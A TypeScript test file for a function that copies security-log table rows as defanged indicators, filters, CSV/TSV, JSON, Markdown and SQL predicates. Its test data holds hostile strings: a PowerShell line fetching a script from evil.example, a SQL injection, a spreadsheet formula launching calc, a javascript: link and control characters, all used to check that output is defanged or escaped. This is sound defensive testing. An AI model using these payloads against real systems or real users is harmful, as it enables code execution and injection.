import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { copyAs, copyForms, type CopyTable } from "./copy-as.ts";

const iso = (us: number): string => `${new Date(us / 1000 + 3_600_000).toISOString().slice(0, -1)}+01:00`;
const table: CopyTable = {
  columns: [{ name: "dst_endpoint_hostname" }, { name: "time", isTime: true }, { name: "bytes" }, { name: "user" }],
  rows: [
    ["cdn-metrics.net", 1_774_172_520_000_000, 512, null],
    ["10.20.4.31", 1_774_172_580_000_000, 0.5, "ana@corp.example"],
  ],
  about: 0,
  iso,
};
const one = (cell: string): CopyTable => ({ columns: [{ name: "value" }], rows: [[cell]], about: 0, iso });

describe("rows copied", () => {
  it("as indicators are defanged, each once, without names of files", () => {
    expect(copyAs("ioc", table)).toBe("cdn-metrics[.]net\n10[.]20[.]4[.]31\nana[@]corp[.]example");
    const text = "powershell.exe -c iwr http://evil.example/a.ps1?x=1 to 2001:db8::1 and evil.example and evil.example";
    expect(copyAs("ioc", one(text))).toBe("hxxp://evil[.]example/a.ps1?x=1\n2001[:]db8[:][:]1\nevil[.]example");
    expect(copyAs("ioc", one("nothing here, 1.5 of them"))).toBe("");
  });

  it("as values are what each row is about, exactly", () => {
    expect(copyAs("value", table)).toBe("cdn-metrics.net\n10.20.4.31");
  });

  it("as a filter are field:value, quoted where needed", () => {
    expect(copyAs("filter", table)).toBe("dst_endpoint_hostname:cdn-metrics.net dst_endpoint_hostname:10.20.4.31");
    expect(copyAs("filter", one('C:\\Program Files\\"x".exe'))).toBe('value:"C:\\\\Program Files\\\\\\"x\\".exe"');
  });

  it("as TSV and CSV have times with their offset, and empty cells for null", () => {
    expect(copyAs("tsv", table)).toBe(
      "dst_endpoint_hostname\ttime\tbytes\tuser\n" +
        "cdn-metrics.net\t2026-03-22T10:42:00.000+01:00\t512\t\n" +
        "10.20.4.31\t2026-03-22T10:43:00.000+01:00\t0.5\tana@corp.example",
    );
    expect(copyAs("csv", table)).toBe(
      "dst_endpoint_hostname,time,bytes,user\r\n" +
        "cdn-metrics.net,2026-03-22T10:42:00.000+01:00,512,\r\n" +
        "10.20.4.31,2026-03-22T10:43:00.000+01:00,0.5,ana@corp.example\r\n",
    );
  });

  it("as JSON and NDJSON can be read back", () => {
    const first = { dst_endpoint_hostname: "cdn-metrics.net", time: "2026-03-22T10:42:00.000+01:00", bytes: 512, user: null };
    const second = { dst_endpoint_hostname: "10.20.4.31", time: "2026-03-22T10:43:00.000+01:00", bytes: 0.5, user: "ana@corp.example" };
    expect(JSON.parse(copyAs("json", table))).toEqual([first, second]);
    expect(
      copyAs("ndjson", table)
        .split("\n")
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual([first, second]);
  });

  it("as Markdown are a table that formats nothing and links nowhere", () => {
    expect(copyAs("markdown", { ...table, rows: [["evil.example | <b>x</b>", 1_774_172_520_000_000, -1, "a\nb"]] })).toBe(
      "| dst\\_endpoint\\_hostname | time | bytes | user |\n| --- | --- | --- | --- |\n" +
        "| evil\\[.\\]example \\| \\<b\\>x\\</b\\> | 2026-03-22T10:42:00.000+01:00 | -1 | a b |",
    );
  });

  it("as a predicate hold for those rows, with times as the tables have them", () => {
    expect(copyAs("sql", table)).toBe(
      '("dst_endpoint_hostname" = \'cdn-metrics.net\' AND "time" = make_timestamp(1774172520000000) AND "bytes" = 512 AND "user" IS NULL)\n' +
        '  OR ("dst_endpoint_hostname" = \'10.20.4.31\' AND "time" = make_timestamp(1774172580000000) AND "bytes" = 0.5 AND "user" = \'ana@corp.example\')',
    );
    expect(copyAs("sql", one("x' OR 1=1; --"))).toBe("\"value\" = 'x'' OR 1=1; --'");
    expect(copyAs("sql", one("a\u202eb"))).toBe("\"value\" = ('a' || chr(8238) || 'b')");
    expect(copyAs("sql", one(""))).toBe("\"value\" = ''");
    const partly = {
      ...table,
      columns: [{ name: "rank", isOurs: true }, { name: "src" }, { name: "dst" }],
      rows: [
        [1, "a", undefined],
        [2, undefined, null],
      ],
    };
    expect(copyAs("sql", partly), "what the data has of each row").toBe('("src" = \'a\')\n  OR ("dst" IS NULL)');
  });
});

describe("hostile text", () => {
  const hostile = [
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1+1",
    "\t=1",
    "a\u0000b\u001b[31m",
    "\u202etxt.exe",
    "x\r\n=1",
    "[a](javascript:alert(1))",
  ];

  it("is no formula in a sheet", () => {
    for (const text of hostile) {
      expect(copyAs("tsv", one(text)).split("\n")).toHaveLength(2);
      expect(copyAs("tsv", one(text)).split("\n")[1], text).not.toMatch(/^[=+\-@\t\r]/);
      expect(copyAs("csv", one(text)).split("\r\n")[1], text).not.toMatch(/^"?[=+\-@\t\r]/);
    }
  });

  it("leaves no character that acts on a reader, in any form, whatever it is", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.constantFrom(...copyForms), (text, { key }) => {
        expect(copyAs(key, one(text))).not.toMatch(/(?![\t\n\r])\p{Cc}|[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/u);
      }),
    );
    for (const text of hostile) for (const { key } of copyForms) expect(copyAs(key, one(text))).not.toContain("\u202e");
  });

  it("comes back from JSON as it was", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        expect(JSON.parse(copyAs("json", one(text)))).toEqual([{ value: text }]);
      }),
    );
  });
});
